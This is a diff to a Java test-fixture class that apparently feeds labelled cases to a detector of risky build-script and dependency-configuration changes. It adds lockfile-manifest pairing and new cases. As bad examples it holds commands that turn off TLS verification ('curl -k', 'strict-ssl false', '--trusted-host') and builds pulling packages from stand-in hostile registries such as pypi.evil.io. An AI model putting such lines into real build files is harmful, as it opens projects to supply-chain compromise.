@@ -1,5 +1,6 @@
 package dev.slipway.app.detectors.workflows;
 
+import dev.slipway.agents.review.Subject;
 import dev.slipway.app.detectors.Changes;
 import dev.slipway.app.detectors.Corpus;
 import java.util.Map;
@@ -8,6 +9,16 @@ import java.util.Map;
 final class BuildCases {
   private static final String SHA = "sha512-" + "Q".repeat(20) + "zX9+w".repeat(13) + "=";
   private static final String OTHER = "sha512-" + "R".repeat(20) + "yW8/v".repeat(13) + "=";
+
+  private static final Map<String, String> MANIFESTS =
+      Map.of(
+          "package-lock.json", "package.json",
+          "yarn.lock", "package.json",
+          "pnpm-lock.yaml", "package.json",
+          "go.sum", "go.mod",
+          "Cargo.lock", "Cargo.toml",
+          "composer.lock", "composer.json",
+          "poetry.lock", "pyproject.toml");
 
   private final Corpus corpus;
 
@@ -33,15 +44,18 @@ final class BuildCases {
   }
 
   private void bad(String path, String before, String after) {
-    corpus.positive(
-        path + ": " + after.strip().replace('\n', '|'),
-        Changes.between(Map.of(path, before), Map.of(path, after)));
+    corpus.positive(path + ": " + after.strip().replace('\n', '|'), between(path, before, after));
   }
 
   private void good(String path, String before, String after) {
-    corpus.negative(
-        path + ": " + after.strip().replace('\n', '|'),
-        Changes.between(Map.of(path, before), Map.of(path, after)));
+    corpus.negative(path + ": " + after.strip().replace('\n', '|'), between(path, before, after));
+  }
+
+  /** A lock changes with its manifest: it is the entries that are judged here. */
+  private static Subject between(String path, String before, String after) {
+    String manifest = MANIFESTS.getOrDefault(path, "unrelated.md");
+    return Changes.between(
+        Map.of(path, before, manifest, "a\n"), Map.of(path, after, manifest, "b\n"));
   }
 
   private void remoteScripts() {
@@ -67,6 +81,11 @@ final class BuildCases {
     good("a.sh", "curl -fsSL https://x.io/a.tgz -o a.tgz\nsha256sum -c a.sum\n");
     good("a.sh", "curl -s https://x.io/api | jq .version\n");
     good("a.sh", "curl -s https://x.io/list | grep shell | sort\n");
+    bad("a.sh", "curl -k https://x.io/a.tgz -o a.tgz\n");
+    bad("a.sh", "pip install --trusted-host pypi.x.io a\n");
+    bad("a.sh", "npm config set strict-ssl false\n");
+    good("a.sh", "curl -kf https://localhost:8443/health\n");
+    good("a.sh", "curl -k https://127.0.0.1:8443/health\n");
     good("a.sh", "env | sort\n");
     good("Makefile", "test:\n\tgo test ./... | tee out.txt\n");
     good("a.sh", "cat a.sql | psql\necho hi | bash\n");
@@ -152,7 +171,7 @@ final class BuildCases {
     bad("build.gradle.kts", "maven { url = uri(\"https://maven.evil.io\") }\n");
     bad("build.gradle", "maven { url 'http://repo.acme.io'\n allowInsecureProtocol = true }\n");
     bad("nuget.config", "<add key=\"x\" value=\"https://nuget.evil.io/v3/index.json\" />\n");
-    bad("Dockerfile", "FROM a\nRUN pip install --index-url https://pypi.evil.io/simple x\n");
+    bad("Dockerfile", "FROM a:1\nRUN pip install --index-url https://pypi.evil.io/simple x\n");
     good(".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n");
     good("requirements.txt", "--index-url https://pypi.org/simple\nrequests==2.32.0\n");
     good("Gemfile", "source 'https://rubygems.org'\n");
